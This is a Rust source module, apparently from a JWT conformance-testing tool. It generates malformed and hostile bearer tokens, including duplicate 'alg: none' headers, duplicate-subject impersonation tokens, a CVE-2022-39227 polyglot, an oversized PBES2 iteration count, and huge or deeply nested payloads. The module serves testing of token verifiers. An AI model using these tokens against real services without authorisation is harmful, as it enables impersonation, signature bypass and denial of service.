//! Encoding and shape mutations: non-canonical base64, non-JSON parts, BOMs, duplicate members, segment
//! counts, sizes, nesting depth, JWE and JSON serializations (RFC 7515 §2, §7; RFC 7519 §7.2; RFC 8259).

use serde_json::{Map, Value, json};

use super::context::MutationContext;
use super::types::{AttackRequest, MutationError, Placement};
use super::util::{append_member, append_member_text, json_text, prepend_member, split3};
use crate::token::b64;
use crate::token::identity::IdClaim;
use crate::token::jws::compact;

type Outcome = Result<AttackRequest, MutationError>;

/// Claim added to force `+` and `/` into a standard-alphabet encoding.
pub(super) const B64_FORCING_CLAIM: &str = "x-b64";
/// Its value: every aligned `???` encodes to `Pz8/`, every `>>>` to `Pj4+`.
pub(super) const B64_FORCING_VALUE: &str = "??????>>>>>>";
/// The padding claim of oversized tokens.
pub(super) const PAD_CLAIM: &str = "x-pad";
/// Nesting depth of the deep-nesting probes.
pub(super) const NESTING_DEPTH: usize = 10_000;

fn header_text(ctx: &MutationContext) -> String {
    json_text(&ctx.header())
}

fn claims_text(ctx: &MutationContext) -> String {
    json_text(&ctx.claims())
}

/// JSON text padded with trailing spaces until its length is not a multiple of 3 (so that base64 needs
/// padding).
fn needs_padding(mut text: String) -> String {
    while text.len().is_multiple_of(3) {
        text.push(' ');
    }
    text
}

pub(super) fn base64_padded(ctx: &MutationContext) -> Outcome {
    let header = needs_padding(header_text(ctx));
    let payload = needs_padding(claims_text(ctx));
    let input = format!(
        "{}.{}",
        b64::encode_padded(header.as_bytes()),
        b64::encode_padded(payload.as_bytes())
    );
    Ok(AttackRequest::bearer(ctx.sign_input(&input)?))
}

pub(super) fn base64_standard_alphabet(ctx: &MutationContext) -> Outcome {
    let mut claims = ctx.claims();
    claims.insert(B64_FORCING_CLAIM.into(), B64_FORCING_VALUE.into());
    let input = format!(
        "{}.{}",
        b64::encode_standard_no_pad(header_text(ctx).as_bytes()),
        b64::encode_standard_no_pad(json_text(&claims).as_bytes())
    );
    Ok(AttackRequest::bearer(ctx.sign_input(&input)?))
}

/// The payload segment with `insert` placed in its middle, signed over the result.
fn payload_with(ctx: &MutationContext, insert: &str) -> Result<String, MutationError> {
    let header = b64::encode(header_text(ctx).as_bytes());
    let payload = b64::encode(claims_text(ctx).as_bytes());
    let mid = payload.len() / 2;
    ctx.sign_input(&format!(
        "{header}.{}{insert}{}",
        &payload[..mid],
        &payload[mid..]
    ))
}

pub(super) fn base64_whitespace(ctx: &MutationContext) -> Outcome {
    Ok(AttackRequest::bearer(payload_with(ctx, " ")?))
}

pub(super) fn base64_illegal_character(ctx: &MutationContext) -> Outcome {
    Ok(AttackRequest::bearer(payload_with(ctx, "!")?))
}

const URL_ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

/// The valid token with its signature's last character changed so that the unused trailing bits are 1:
/// the same signature bytes under a lenient decoder.
pub(super) fn base64_noncanonical_signature(ctx: &MutationContext) -> Outcome {
    let valid = ctx.valid_token()?;
    let (h, p, s) = split3(&valid);
    let unused_bits = match s.len() % 4 {
        2 => 4,
        3 => 2,
        _ => {
            return Err(MutationError::NotApplicable(
                "the signature length leaves no unused bits".into(),
            ));
        }
    };
    let last = s.as_bytes()[s.len() - 1];
    let value = URL_ALPHABET.iter().position(|&c| c == last).unwrap_or(0);
    let changed = URL_ALPHABET[value | ((1 << unused_bits) - 1)] as char;
    Ok(AttackRequest::bearer(format!(
        "{h}.{p}.{}{changed}",
        &s[..s.len() - 1]
    )))
}

pub(super) fn header_not_json(ctx: &MutationContext) -> Outcome {
    Ok(AttackRequest::bearer(ctx.sign_bytes(
        b"authconform: not json",
        claims_text(ctx).as_bytes(),
    )?))
}

pub(super) fn payload_not_json(ctx: &MutationContext) -> Outcome {
    Ok(AttackRequest::bearer(ctx.sign_bytes(
        header_text(ctx).as_bytes(),
        b"authconform: not json",
    )?))
}

pub(super) fn header_json_array(ctx: &MutationContext) -> Outcome {
    let header = json!([Value::Object(ctx.header())]).to_string();
    Ok(AttackRequest::bearer(ctx.sign_bytes(
        header.as_bytes(),
        claims_text(ctx).as_bytes(),
    )?))
}

pub(super) fn payload_json_array(ctx: &MutationContext) -> Outcome {
    let claims = json!([Value::Object(ctx.claims())]).to_string();
    Ok(AttackRequest::bearer(ctx.sign_bytes(
        header_text(ctx).as_bytes(),
        claims.as_bytes(),
    )?))
}

/// The UTF-8 byte order mark.
pub(super) const BOM: &str = "\u{feff}";

pub(super) fn header_bom(ctx: &MutationContext) -> Outcome {
    let header = format!("{BOM}{}", header_text(ctx));
    Ok(AttackRequest::bearer(ctx.sign_bytes(
        header.as_bytes(),
        claims_text(ctx).as_bytes(),
    )?))
}

pub(super) fn payload_bom(ctx: &MutationContext) -> Outcome {
    let payload = format!("{BOM}{}", claims_text(ctx));
    Ok(AttackRequest::bearer(ctx.sign_bytes(
        header_text(ctx).as_bytes(),
        payload.as_bytes(),
    )?))
}

/// Bytes after the claims object.
pub(super) const TRAILING: &str = " trailing";

pub(super) fn payload_trailing_bytes(ctx: &MutationContext) -> Outcome {
    let payload = format!("{}{TRAILING}", claims_text(ctx));
    Ok(AttackRequest::bearer(ctx.sign_bytes(
        header_text(ctx).as_bytes(),
        payload.as_bytes(),
    )?))
}

pub(super) fn payload_invalid_utf8(ctx: &MutationContext) -> Outcome {
    let text = append_member(&ctx.claims(), "x-bytes", &json!("__"));
    let mut payload = text.into_bytes();
    let at = payload.len() - 4;
    payload[at] = 0xff;
    payload[at + 1] = 0xfe;
    Ok(AttackRequest::bearer(
        ctx.sign_bytes(header_text(ctx).as_bytes(), &payload)?,
    ))
}

pub(super) fn duplicate_alg_none_last(ctx: &MutationContext) -> Outcome {
    let header = append_member(&ctx.header(), "alg", &json!("none"));
    Ok(AttackRequest::bearer(ctx.sign_bytes(
        header.as_bytes(),
        claims_text(ctx).as_bytes(),
    )?))
}

fn duplicate_id(ctx: &MutationContext, first: &str, last: &str) -> Outcome {
    let IdClaim::Name(name) = ctx.id_claim() else {
        return Err(MutationError::NotApplicable(
            "the user id is a nested claim; duplicate members are forged for top-level ones".into(),
        ));
    };
    let id = |text: &str| {
        ctx.issuer
            .id_type
            .value(text)
            .unwrap_or_else(|_| text.into())
    };
    let mut claims: Map<String, Value> = ctx.claims();
    claims.remove(name);
    let with_first = prepend_member(&claims, name, &id(first));
    let payload = append_member_text(&with_first, name, &id(last));
    Ok(AttackRequest::bearer(ctx.sign_bytes(
        header_text(ctx).as_bytes(),
        payload.as_bytes(),
    )?))
}

pub(super) fn duplicate_sub_victim_first(ctx: &MutationContext) -> Outcome {
    duplicate_id(ctx, &ctx.principal.sub, &ctx.other.sub)
}

pub(super) fn duplicate_sub_victim_last(ctx: &MutationContext) -> Outcome {
    duplicate_id(ctx, &ctx.other.sub, &ctx.principal.sub)
}

pub(super) fn segments_one(ctx: &MutationContext) -> Outcome {
    let valid = ctx.valid_token()?;
    Ok(AttackRequest::bearer(split3(&valid).0.to_string()))
}

pub(super) fn segments_two(ctx: &MutationContext) -> Outcome {
    let valid = ctx.valid_token()?;
    let (h, p, _) = split3(&valid);
    Ok(AttackRequest::bearer(format!("{h}.{p}")))
}

pub(super) fn segments_four(ctx: &MutationContext) -> Outcome {
    Ok(AttackRequest::bearer(format!(
        "{}.{}",
        ctx.valid_token()?,
        b64::encode(b"extra")
    )))
}

pub(super) fn segments_trailing_dot(ctx: &MutationContext) -> Outcome {
    Ok(AttackRequest::bearer(format!("{}.", ctx.valid_token()?)))
}

pub(super) fn segments_only_dots(_: &MutationContext) -> Outcome {
    Ok(AttackRequest::bearer(".."))
}

/// A JWE-shaped token: `dir`/`A256GCM` header, empty key, IV, the victim's claims as "ciphertext", tag.
pub(super) fn segments_five_jwe(ctx: &MutationContext) -> Outcome {
    let header = json!({ "alg": "dir", "enc": "A256GCM" }).to_string();
    let claims = claims_text(ctx);
    Ok(AttackRequest::bearer(compact(&[
        header.as_bytes(),
        b"",
        &[7u8; 12],
        claims.as_bytes(),
        &[0u8; 16],
    ])))
}

/// A JWE header asking for 2 billion PBES2 iterations (CVE-2022-36083 class).
pub(super) fn jwe_pbes2_p2c(ctx: &MutationContext) -> Outcome {
    let header = json!({
        "alg": "PBES2-HS256+A128KW", "enc": "A128GCM", "p2c": 2_000_000_000u64, "p2s": b64::encode(b"authconform-salt")
    })
    .to_string();
    let claims = claims_text(ctx);
    Ok(AttackRequest::bearer(compact(&[
        header.as_bytes(),
        &[1u8; 24],
        &[2u8; 12],
        claims.as_bytes(),
        &[3u8; 16],
    ])))
}

pub(super) fn json_serialization_flattened(ctx: &MutationContext) -> Outcome {
    let valid = ctx.valid_token()?;
    let (h, p, s) = split3(&valid);
    Ok(AttackRequest::bearer(
        json!({ "protected": h, "payload": p, "signature": s }).to_string(),
    ))
}

/// CVE-2022-39227 polyglot: a JSON serialization of the attacker's valid token whose first member name
/// is a compact token carrying the victim's claims.
pub(super) fn json_compact_polyglot(ctx: &MutationContext) -> Outcome {
    let other = ctx.valid_token_of(&ctx.other)?;
    let (h, p, s) = split3(&other);
    let forged = b64::encode(claims_text(ctx).as_bytes());
    let mut polyglot = Map::new();
    polyglot.insert(format!("{h}.{forged}."), "".into());
    polyglot.insert("protected".into(), h.into());
    polyglot.insert("payload".into(), p.into());
    polyglot.insert("signature".into(), s.into());
    Ok(AttackRequest::bearer(json_text(&polyglot)))
}

/// The raw `Authorization` value only (no token).
fn raw_authorization(value: &str) -> Outcome {
    Ok(AttackRequest::placed(
        None,
        Placement::RawAuthorization(value.to_string()),
    ))
}

pub(super) fn empty_token(_: &MutationContext) -> Outcome {
    raw_authorization("Bearer ")
}

pub(super) fn bearer_without_token(_: &MutationContext) -> Outcome {
    raw_authorization("Bearer")
}

pub(super) fn token_null_literal(_: &MutationContext) -> Outcome {
    Ok(AttackRequest::bearer("null"))
}

pub(super) fn token_undefined_literal(_: &MutationContext) -> Outcome {
    Ok(AttackRequest::bearer("undefined"))
}

pub(super) fn token_empty_quotes(_: &MutationContext) -> Outcome {
    Ok(AttackRequest::bearer("\"\""))
}

/// The valid token with a padding claim making its payload about `size` bytes, original signature kept.
pub(super) fn oversized(ctx: &MutationContext, size: usize) -> Outcome {
    let valid = ctx.valid_token()?;
    let (h, _, s) = split3(&valid);
    let (claims, at) = padding_at(ctx.claims());
    // Encoded in pieces into a buffer of the token's size: the token is up to 1.4 MiB, and neither
    // the padding nor the claims' text with it is ever held whole.
    let payload_len = claims.len() + size;
    let mut token = String::with_capacity(h.len() + b64::encoded_len(payload_len) + s.len() + 2);
    token.push_str(h);
    token.push('.');
    let letters = (0..size.div_ceil(PAD_LETTERS.len())).map(|piece| {
        let len = (size - piece * PAD_LETTERS.len()).min(PAD_LETTERS.len());
        &PAD_LETTERS.as_bytes()[..len]
    });
    let pieces = std::iter::once(&claims.as_bytes()[..at])
        .chain(letters)
        .chain(std::iter::once(&claims.as_bytes()[at..]));
    b64::encode_pieces_into(pieces, &mut token);
    token.push('.');
    token.push_str(s);
    Ok(AttackRequest::bearer(token))
}

/// The claims' JSON text with an empty padding claim, and where in it the padding's letters go: the
/// text with the letters written there is the claims' text with the padding.
pub(super) fn padding_at(mut claims: Map<String, Value>) -> (String, usize) {
    claims.insert(PAD_CLAIM.into(), String::new().into());
    let text = json_text(&claims);
    // A member name is written unescaped once, and no string value holds an unescaped `"`; the
    // padding is an object member, so it is always found.
    let member = format!("\"{PAD_CLAIM}\":\"\"");
    let at = text
        .find(&member)
        .map_or(text.len(), |at| at + member.len() - 1);
    (text, at)
}

/// A run of padding letters, encoded piece by piece.
const PAD_LETTERS: &str = concat!(
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
);

/// One mebibyte.
pub(super) const MIB: usize = 1024 * 1024;

pub(super) fn many_dots(_: &MutationContext) -> Outcome {
    Ok(AttackRequest::bearer(".".repeat(MIB)))
}

fn deep_claims(ctx: &MutationContext) -> String {
    let deep = format!("{}{}", "[".repeat(NESTING_DEPTH), "]".repeat(NESTING_DEPTH));
    let text = append_member(&ctx.claims(), "x-deep", &json!(0));
    let body = text.strip_suffix("0}").unwrap_or(&text);
    format!("{body}{deep}}}")
}

pub(super) fn deep_nesting_unsigned(ctx: &MutationContext) -> Outcome {
    let valid = ctx.valid_token()?;
    let (h, _, s) = split3(&valid);
    Ok(AttackRequest::bearer(format!(
        "{h}.{}.{s}",
        b64::encode(deep_claims(ctx).as_bytes())
    )))
}

pub(super) fn deep_nesting_signed(ctx: &MutationContext) -> Outcome {
    Ok(AttackRequest::bearer(ctx.sign_bytes(
        header_text(ctx).as_bytes(),
        deep_claims(ctx).as_bytes(),
    )?))
}
